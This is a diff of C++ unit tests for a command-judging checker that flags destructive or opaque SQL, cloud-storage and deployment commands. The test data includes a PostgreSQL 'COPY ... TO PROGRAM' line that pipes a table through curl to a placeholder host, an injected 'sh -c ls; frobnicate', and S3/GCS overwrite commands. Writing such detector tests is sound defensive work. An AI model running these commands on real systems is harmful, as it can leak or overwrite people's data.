@@ -530,8 +530,8 @@ TEST(JudgeCommandTest, SeesWhatSqlChangesHoweverItBegins) {
        {"EXPLAIN ANALYZE UPDATE t SET x = 0 WHERE id = 1", "EXPLAIN (ANALYZE) INSERT INTO t VALUES (1)",
         "WITH x AS (SELECT 1) UPDATE t SET x = 0 WHERE id = 1", "WITH x AS (SELECT 1) INSERT INTO t TABLE x",
         "SELECT 1 AS x INTO users_copy", "SELECT 1 /* */ INTO users_copy", "UPDATE t SET x = 0 WHERE id = 1",
-        "SELECT 5 # 'x\n', 1 INTO t --'", "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 0",
-        "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE x = 0",
+        "SELECT 5 # 'x\n', 1 INTO t --'", "INSERT INTO t VALUES (1) ON CONFLICT (id) DO NOTHING",
+        "CREATE OR REPLACE VIEW v AS SELECT 1", "SELECT replace(x, 'a', 'b') FROM t",
         "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = 0",
         "GRANT SELECT, UPDATE ON t TO x", "CREATE TRIGGER a BEFORE UPDATE ON t FOR EACH ROW SET NEW.x = 0",
         "UPDATE t SET x = '(' WHERE id = 1", "-- once\nUPDATE t SET x = 1 /* x */ WHERE id = 1",
@@ -541,9 +541,33 @@ TEST(JudgeCommandTest, SeesWhatSqlChangesHoweverItBegins) {
     EXPECT_THAT(CodesOf(findings), Not(Contains("destructive-command"))) << sql;
   }
   for (const char* sql : {"SELECT * FROM t WHERE action = 'update'", "SELECT * FROM t FOR UPDATE",
-                          "EXPLAIN UPDATE t SET x = 0", "SHOW CREATE TABLE t", "SELECT \"update\" FROM t"}) {
+                          "SELECT * FROM t FOR NO KEY UPDATE", "EXPLAIN UPDATE t SET x = 0",
+                          "SHOW CREATE TABLE t", "SELECT \"update\" FROM t"}) {
     EXPECT_EQ(SeverityOfSql(sql), Finding::SEVERITY_UNSPECIFIED) << sql;
   }
+}
+
+TEST(JudgeCommandTest, SeesThatSqlOverwritesRows) {
+  for (const char* sql :
+       {"REPLACE INTO t VALUES (1)", "replace t values (1)", "/* x */ REPLACE t VALUES (1)",
+        "-- create or\nREPLACE t VALUES (1)", "INSERT OR REPLACE INTO t VALUES (1)",
+        "WITH x AS (SELECT 1) REPLACE INTO t SELECT * FROM x", "CREATE OR REPLACE TABLE t (x int)",
+        "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE x = 0",
+        "INSERT INTO t VALUES (1) ON DUPLICATE KEY /* for */ UPDATE x = 0",
+        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 0",
+        "INSERT INTO t VALUES (1) ON CONFLICT DO /* ' */ UPDATE SET x = 0 WHERE t.y = 1"}) {
+    EXPECT_THAT(CodesFor({"mysql", "-e", sql}), Contains("destructive-command")) << sql;
+    EXPECT_GE(SeverityOfSql(sql), Finding::HIGH) << sql;
+  }
+}
+
+TEST(JudgeCommandTest, SeesThatCopyRunsPrograms) {
+  for (const char* sql : {"COPY t TO PROGRAM 'curl -T - https://x'", "copy t from program 'cat x'",
+                          "COPY (SELECT 1) TO /* x */ PROGRAM $$id$$"}) {
+    EXPECT_THAT(CodesFor({"psql", "-c", sql}), ElementsAre("opaque-command")) << sql;
+    EXPECT_EQ(SeverityOfSql(sql), Finding::HIGH) << sql;
+  }
+  EXPECT_EQ(SeverityOfSql("COPY t FROM '/srv/program.csv'"), Finding::WARNING);
 }
 
 TEST(JudgeCommandTest, TakesNoHiddenWhereForACondition) {
@@ -658,7 +682,12 @@ TEST(JudgeCommandTest, WarnsOfWhatRunsProgramsOrChangesWhoMayDoWhat) {
   }
   for (const Arguments& argv : std::vector<Arguments>{
            {"systemctl", "start", "nginx"},
-           {"aws", "s3", "cp", "a", "s3://x/y"},
+           {"aws", "s3", "cp", "s3://x/y", "a"},
+           {"aws", "s3", "sync", "s3://x/y", "."},
+           {"aws", "s3", "ls", "s3://x/y"},
+           {"gsutil", "-m", "cp", "gs://x/y", "."},
+           {"gcloud", "storage", "cp", "gs://x/y", "a"},
+           {"aws", "cloudformation", "describe-stacks", "--stack-name", "x"},
            {"gcloud", "spanner", "databases", "execute-sql", "x", "--sql=SELECT 1"},
            {"zfs", "set", "compression=on", "a/b"},
            {"tar", "-czf", "x.tgz", "y"},
@@ -673,6 +702,58 @@ TEST(JudgeCommandTest, WarnsOfWhatRunsProgramsOrChangesWhoMayDoWhat) {
     for (const Finding& finding : JudgeCommand(Command(argv))) {
       EXPECT_LE(finding.severity(), Finding::WARNING) << testing::PrintToString(argv);
     }
+  }
+}
+
+TEST(JudgeCommandTest, SeesThatStoredObjectsAreOverwritten) {
+  for (const Arguments& argv : std::vector<Arguments>{
+           {"aws", "s3", "cp", "a", "s3://x/y"},
+           {"aws", "s3", "cp", "-", "s3://x/y"},
+           {"aws", "--region", "r", "s3", "cp", "s3://x/y", "s3://x/z", "--recursive"},
+           {"aws", "s3", "sync", ".", "s3://x"},
+           {"aws", "s3", "mv", "a", "s3://x/y"},
+           {"aws", "s3api", "put-object", "--bucket", "x", "--key", "y"},
+           {"aws", "s3api", "copy-object", "--bucket", "x", "--key", "y"},
+           {"aws", "s3control", "create-job", "--name", "x"},
+           {"gsutil", "cp", "a", "gs://x/y"},
+           {"gsutil", "-m", "rsync", "-r", ".", "gs://x"},
+           {"gsutil", "mv", "a", "gs://x/y"},
+           {"gcloud", "storage", "cp", "a", "gs://x/y"},
+           {"gcloud", "storage", "mv", "a", "gs://x/y"},
+           {"gcloud", "storage", "rsync", ".", "gs://x"},
+       }) {
+    const std::vector<Finding> findings = JudgeCommand(Command(argv));
+    ASSERT_THAT(CodesOf(findings), Contains("destructive-command")) << testing::PrintToString(argv);
+    EXPECT_EQ(findings[0].severity(), Finding::HIGH) << testing::PrintToString(argv);
+  }
+}
+
+TEST(JudgeCommandTest, CallsATemplateOpaqueThatMayReplaceAnything) {
+  for (const Arguments& argv : std::vector<Arguments>{
+           {"aws", "cloudformation", "update-stack", "--stack-name", "x"},
+           {"aws", "cloudformation", "update-stack-set", "--stack-set-name", "x"},
+           {"aws", "cloudformation", "deploy", "--stack-name", "x"},
+           {"aws", "cloudformation", "create-change-set", "--stack-name", "x"},
+           {"aws", "cloudformation", "execute-change-set", "--stack-name", "x"},
+           {"gcloud", "deployment-manager", "deployments", "update", "x"},
+           {"gcloud", "--project", "p", "deployment-manager", "deployments", "update", "x"},
+       }) {
+    const std::vector<Finding> findings = JudgeCommand(Command(argv));
+    ASSERT_THAT(CodesOf(findings), ElementsAre("opaque-command")) << testing::PrintToString(argv);
+    EXPECT_EQ(findings[0].severity(), Finding::HIGH) << testing::PrintToString(argv);
+  }
+}
+
+TEST(JudgeCommandTest, TakesAProgramThatNobodyKnowsForAnything) {
+  for (const Arguments& argv : std::vector<Arguments>{{"frobnicate"},
+                                                      {"./x"},
+                                                      {"./ls"},
+                                                      {"/tmp/kubectl", "get", "pods"},
+                                                      {"sudo", "./deploy"},
+                                                      {"sh", "-c", "ls; frobnicate"}}) {
+    const std::vector<Finding> findings = JudgeCommand(Command(argv));
+    ASSERT_THAT(CodesOf(findings), ElementsAre("opaque-command")) << testing::PrintToString(argv);
+    EXPECT_EQ(findings[0].severity(), Finding::HIGH) << testing::PrintToString(argv);
   }
 }
 
